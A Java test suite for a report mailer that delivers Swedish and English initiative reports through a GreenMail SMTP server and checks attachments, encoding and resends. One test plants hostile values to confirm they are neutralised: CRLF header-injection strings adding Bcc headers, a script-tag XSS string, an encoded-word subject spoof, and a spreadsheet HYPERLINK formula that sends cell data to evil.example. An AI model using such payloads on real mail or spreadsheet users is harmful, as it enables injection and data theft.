package se.vardag.delivery;

import static org.assertj.core.api.Assertions.assertThat;
import static se.vardag.delivery.DeliveryTestSupport.bytes;
import static se.vardag.delivery.DeliveryTestSupport.env;
import static se.vardag.delivery.DeliveryTestSupport.leaves;
import static se.vardag.delivery.DeliveryTestSupport.raw;

import com.icegreen.greenmail.junit5.GreenMailExtension;
import com.icegreen.greenmail.util.ServerSetupTest;
import jakarta.mail.Address;
import jakarta.mail.BodyPart;
import jakarta.mail.Message;
import jakarta.mail.Multipart;
import jakarta.mail.Part;
import jakarta.mail.internet.InternetAddress;
import jakarta.mail.internet.MimeBodyPart;
import jakarta.mail.internet.MimeMessage;
import jakarta.mail.internet.MimeUtility;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.apache.spark.sql.SparkSession;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;
import se.vardag.SparkTestSupport;
import se.vardag.config.VardagConfig;
import se.vardag.report.CsvExport;
import se.vardag.report.CsvTableComparison;
import se.vardag.report.InitiativeRow;
import se.vardag.report.RenderedReport;
import se.vardag.report.ReportData;
import se.vardag.report.ReportFixtures;
import se.vardag.report.ReportRenderer;

/** The report delivered to a real SMTP server (GreenMail) and taken apart again. */
class GreenMailDeliveryTest {
  static final LocalDate D = ReportFixtures.D;

  @RegisterExtension
  static GreenMailExtension greenMail = new GreenMailExtension(ServerSetupTest.SMTP.dynamicPort())
      .withPerMethodLifecycle(true);

  VardagConfig config(String locale, String to) {
    return DeliveryTestSupport.config(locale, env("VARDAG_MAIL_TO", to,
        "VARDAG_MAIL_SMTP_HOST", "127.0.0.1", "VARDAG_MAIL_SMTP_PORT",
        Integer.toString(greenMail.getSmtp().getPort())));
  }

  @Test
  void theReceivedMessageHasTextAndHtmlAlternativesInlineChartsAndTheCsvOfThePublishedTable(@TempDir Path tmp)
      throws Exception {
    SparkSession spark = SparkTestSupport.spark();
    Path version = tmp.resolve("out/_versions/1");
    ReportFixtures.writeVersionDir(spark, version, ReportFixtures.sample());
    VardagConfig cfg = config("sv", "ledning@exempel.se, Åsa Öberg <asa.oberg@exempel.se>");
    RenderedReport report = new ReportRenderer(cfg).render(spark, version, D);

    DeliveryResult r = new Mailer(cfg, tmp.resolve("out"), DeliveryTestSupport.CLOCK).deliver(D, report, false);
    assertThat(r.sent()).hasSize(2);
    MimeMessage[] received = greenMail.getReceivedMessages();
    assertThat(received).hasSize(2);

    MimeMessage m = received[0];
    assertThat(m.getSubject()).isEqualTo(report.subject());
    assertThat(m.getFrom()).containsExactly(new InternetAddress("vardag@exempel.se", "Vardag"));
    assertThat(m.getMessageID()).isEqualTo(r.sent().get(0).messageId());
    assertThat(m.isMimeType("multipart/mixed")).isTrue();

    Multipart mixed = (Multipart) m.getContent();
    assertThat(mixed.getCount()).isEqualTo(3);
    BodyPart alternativePart = mixed.getBodyPart(0);
    assertThat(alternativePart.isMimeType("multipart/alternative")).isTrue();
    Multipart alternative = (Multipart) alternativePart.getContent();
    assertThat(alternative.getCount()).isEqualTo(2);
    BodyPart text = alternative.getBodyPart(0);
    assertThat(text.isMimeType("text/plain")).isTrue();
    assertThat(text.getContentType()).containsIgnoringCase("charset=UTF-8");
    assertThat(((String) text.getContent()).replace("\r\n", "\n")).isEqualTo(report.mailText());

    BodyPart relatedPart = alternative.getBodyPart(1);
    assertThat(relatedPart.isMimeType("multipart/related")).isTrue();
    Multipart related = (Multipart) relatedPart.getContent();
    BodyPart html = related.getBodyPart(0);
    assertThat(html.isMimeType("text/html")).isTrue();
    String htmlText = ((String) html.getContent()).replace("\r\n", "\n");
    assertThat(htmlText).isEqualTo(report.mailHtml().replace("\r\n", "\n"));

    // Every cid: in the HTML resolves to an inline PNG part of the related multipart, and vice versa.
    Set<String> cids = new HashSet<>();
    Matcher cid = Pattern.compile("src=\"cid:([^\"]+)\"").matcher(htmlText);
    while (cid.find()) {
      cids.add(cid.group(1));
    }
    // The digest shows the ingredients chart; the weekly and overview charts are in the PDF.
    assertThat(cids).hasSize(report.mailCharts().size()).hasSize(1);
    Set<String> partIds = new HashSet<>();
    for (int i = 1; i < related.getCount(); i++) {
      MimeBodyPart img = (MimeBodyPart) related.getBodyPart(i);
      assertThat(img.isMimeType("image/png")).isTrue();
      assertThat(img.getDisposition()).isEqualTo(Part.INLINE);
      String id = img.getContentID().replaceAll("^<|>$", "");
      partIds.add(id);
      RenderedReport.Chart chart = report.charts().stream().filter(c -> c.contentId().equals(id)).findFirst()
          .orElseThrow();
      assertThat(bytes(img)).isEqualTo(chart.png());
    }
    assertThat(partIds).isEqualTo(cids);

    BodyPart pdf = mixed.getBodyPart(1);
    assertThat(pdf.isMimeType("application/pdf")).isTrue();
    assertThat(pdf.getDisposition()).isEqualTo(Part.ATTACHMENT);
    assertThat(pdf.getFileName()).isEqualTo("initiativrapport-2026-11-03.pdf");
    assertThat(bytes(pdf)).isEqualTo(report.pdf().orElseThrow());

    BodyPart csv = mixed.getBodyPart(2);
    assertThat(csv.isMimeType("text/csv")).isTrue();
    assertThat(csv.getDisposition()).isEqualTo(Part.ATTACHMENT);
    assertThat(csv.getFileName()).isEqualTo("initiativmått-2026-11-03.csv");
    byte[] csvBytes = bytes(csv);
    assertThat(csvBytes).isEqualTo(report.csv());
    assertThat(CsvTableComparison.parse(csvBytes)).isEqualTo(CsvTableComparison.table(spark, version));

    // Each recipient got their own message, addressed to them alone.
    Set<String> to = new HashSet<>();
    for (MimeMessage each : received) {
      Address[] rcpts = each.getAllRecipients();
      assertThat(rcpts).hasSize(1);
      to.add(((InternetAddress) rcpts[0]).getAddress());
    }
    assertThat(to).containsExactlyInAnyOrder("ledning@exempel.se", "asa.oberg@exempel.se");
    assertThat(Arrays.stream(received).map(x -> {
      try {
        return x.getMessageID();
      } catch (Exception e) {
        throw new IllegalStateException(e);
      }
    }).distinct()).hasSize(2);
  }

  @Test
  void aRerunSendsNothingAndResendSendsAgainUnderANewMessageId(@TempDir Path out) throws Exception {
    VardagConfig cfg = config("sv", "ledning@exempel.se");
    RenderedReport report = DeliveryTestSupport.sampleReport("sv");
    Mailer mailer = new Mailer(cfg, out, DeliveryTestSupport.CLOCK);

    assertThat(mailer.deliver(D, report, false).sent()).hasSize(1);
    assertThat(greenMail.getReceivedMessages()).hasSize(1);

    DeliveryResult rerun = mailer.deliver(D, report, false);
    assertThat(rerun.sent()).isEmpty();
    assertThat(rerun.skipped()).hasSize(1);
    assertThat(rerun.failed()).isFalse();
    // A fresh Mailer (the next process) reads the same ledger.
    assertThat(new Mailer(cfg, out, DeliveryTestSupport.CLOCK).deliverAll(D, report, false).sent()).isEmpty();
    assertThat(greenMail.getReceivedMessages()).hasSize(1);

    DeliveryResult resend = mailer.deliver(D, report, true);
    assertThat(resend.sent()).hasSize(1);
    MimeMessage[] both = greenMail.getReceivedMessages();
    assertThat(both).hasSize(2);
    assertThat(both[1].getMessageID()).isNotEqualTo(both[0].getMessageID()).endsWith(".1@exempel.se>");
  }

  @Test
  void swedishCharactersArriveIntactInSubjectBodyAttachmentNameAndAttachment(@TempDir Path out) throws Exception {
    RenderedReport report = DeliveryTestSupport.sampleReport("sv");
    new Mailer(config("sv", "ledning@exempel.se"), out, DeliveryTestSupport.CLOCK).deliver(D, report, false);
    MimeMessage m = greenMail.getReceivedMessages()[0];

    assertThat(m.getSubject()).contains("förankring", "brådskande");
    // On the wire everything is 7-bit: the subject as an RFC 2047 encoded word, parts base64/quoted-printable.
    byte[] wire = raw(m);
    for (byte b : wire) {
      assertThat(b & 0xff).isLessThan(128);
    }
    String rawHeaders = new String(wire, StandardCharsets.US_ASCII);
    assertThat(rawHeaders).contains("Subject: =?UTF-8?");
    assertThat(MimeUtility.decodeText(m.getHeader("Subject")[0].replaceAll("\r\n\\s+", " ")))
        .isEqualTo(report.subject());

    List<Part> parts = leaves(m);
    String text = (String) parts.get(0).getContent();
    String html = (String) parts.get(1).getContent();
    // The mail is the digest; the three questions are in the PDF, which arrives whole.
    assertThat(text).contains("Kräver åtgärd", "Övriga initiativ", "initiativrapport-2026-11-03.pdf")
        .doesNotContain("Vem äger det här när piloten är slut");
    assertThat(html).contains("Kräver åtgärd", "Övriga initiativ", "Datakvalitet", "initiativrapport-2026-11-03.pdf")
        .doesNotContain("Vem äger det här när piloten är slut");
    Part pdf = parts.get(parts.size() - 2);
    assertThat(pdf.getFileName()).isEqualTo("initiativrapport-2026-11-03.pdf");
    try (org.apache.pdfbox.pdmodel.PDDocument doc = org.apache.pdfbox.Loader.loadPDF(bytes(pdf))) {
      // Pillar labels are upper-cased by the style sheet: ÄGARSKAP proves the Ä is in the embedded font.
      assertThat(new org.apache.pdfbox.text.PDFTextStripper().getText(doc)).contains("ÄGARSKAP",
          "Vem äger det här när piloten är slut", "Vardagsanvändning i alla initiativ", "Datakvalitet");
    }
    Part csv = parts.get(parts.size() - 1);
    assertThat(csv.getFileName()).isEqualTo("initiativmått-2026-11-03.csv");
    assertThat(new String(bytes(csv), StandardCharsets.UTF_8)).contains("Lösningstid incident (timmar)",
        "AI-assistent för ärendehandläggning", "Självservice för lönefrågor");
  }

  @Test
  void hostileInitiativeNamesArriveHarmless(@TempDir Path out) throws Exception {
    String evil = ReportFixtures.HOSTILE_NAME;
    List<InitiativeRow> rows = new ArrayList<>(ReportFixtures.sample().initiatives());
    rows.add(ReportFixtures.init("I-666", evil, "lacks_follow_through").owner("E1\r\nBcc: x@evil.example", false, null)
        .set("kpi", "=1+1\r\nX-Evil: yes").set("flag_count", 9).row());
    ReportData base = ReportFixtures.sample();
    List<ReportData.FlagRow> flags = new ArrayList<>(base.flags());
    for (String code : List.of("OWNER_LEFT", "FOLLOW_UP_OVERDUE", "TRAINED_NOT_USING", "LOW_ADOPTION",
        "ADOPTION_DECAY", "NO_OWNER")) {
      flags.add(ReportFixtures.flag("I-666", evil, code, "usage", "high", "lacks_follow_through",
          "<b>" + code + "</b>\r\nBcc: y@evil.example"));
    }
    ReportData data = new ReportData(D, rows, flags, base.weeks(), base.units(), base.quality());
    VardagConfig cfg = config("sv", "ledning@exempel.se");
    RenderedReport report = new ReportRenderer(cfg).render(data);
    assertThat(report.subject()).contains(evil.substring(0, 20));

    DeliveryResult r = new Mailer(cfg, out, DeliveryTestSupport.CLOCK).deliver(D, report, false);
    assertThat(r.sent()).hasSize(1);
    MimeMessage[] received = greenMail.getReceivedMessages();
    assertThat(received).hasSize(1);
    MimeMessage m = received[0];
    // CR/LF never reached a header: no injected Bcc or X-Evil header, one recipient, subject on one line.
    assertThat(m.getHeader("Bcc")).isNull();
    assertThat(m.getHeader("X-Evil")).isNull();
    assertThat(m.getAllRecipients()).hasSize(1);
    assertThat(m.getRecipients(Message.RecipientType.BCC)).isNull();
    assertThat(m.getSubject()).doesNotContain("\r").doesNotContain("\n").contains("=HYPERLINK(");
    String headers = new String(raw(m), StandardCharsets.US_ASCII).split("\r\n\r\n", 2)[0];
    for (String line : headers.split("\r\n")) {
      assertThat(line).doesNotStartWithIgnoringCase("bcc:").doesNotStartWithIgnoringCase("x-evil");
    }

    List<Part> parts = leaves(m);
    String html = (String) parts.get(1).getContent();
    assertThat(html).doesNotContain("<script").contains("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;")
        .contains("=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1");
    String csv = new String(bytes(parts.get(parts.size() - 1)), StandardCharsets.UTF_8);
    assertThat(csv).contains("\"'=HYPERLINK(").contains("\"'=1+1\r\nX-Evil: yes\"");
    assertThat(CsvExport.unneutralise("'=1+1\r\nX-Evil: yes")).isEqualTo("=1+1\r\nX-Evil: yes");
  }

  @Test
  void aNameThatLooksLikeAnEncodedWordIsShownLiterallyInTheSubject(@TempDir Path out) throws Exception {
    String spoof = "=?UTF-8?B?VVJHRU5UOiBwYXkgbm93?= ITIL";
    List<InitiativeRow> rows = List.of(ReportFixtures.init("I-9", spoof, "lacks_follow_through").row());
    VardagConfig cfg = config("en", "ledning@exempel.se");
    RenderedReport report = new ReportRenderer(cfg).render(new ReportData(D, rows, List.of(), List.of(), List.of(),
        ReportFixtures.quality(0, List.of())));
    new Mailer(cfg, out, DeliveryTestSupport.CLOCK).deliver(D, report, false);
    MimeMessage m = greenMail.getReceivedMessages()[0];
    assertThat(m.getSubject()).isEqualTo(report.subject()).contains(spoof).doesNotContain("URGENT");
  }

  @Test
  void englishReportsAreDeliveredInEnglish(@TempDir Path out) throws Exception {
    RenderedReport report = DeliveryTestSupport.sampleReport("en");
    new Mailer(config("en", "board@exempel.se"), out, DeliveryTestSupport.CLOCK).deliver(D, report, false);
    MimeMessage m = greenMail.getReceivedMessages()[0];
    assertThat(m.getSubject()).startsWith("Vardag 3 November 2026: 2 of 5 initiatives past the pilot");
    assertThat(m.getHeader("Content-Language")).containsExactly("en");
    assertThat(leaves(m).get(leaves(m).size() - 1).getFileName()).isEqualTo("initiative-metrics-2026-11-03.csv");
    assertThat(Map.of("x", 1)).isNotEmpty();
  }
}
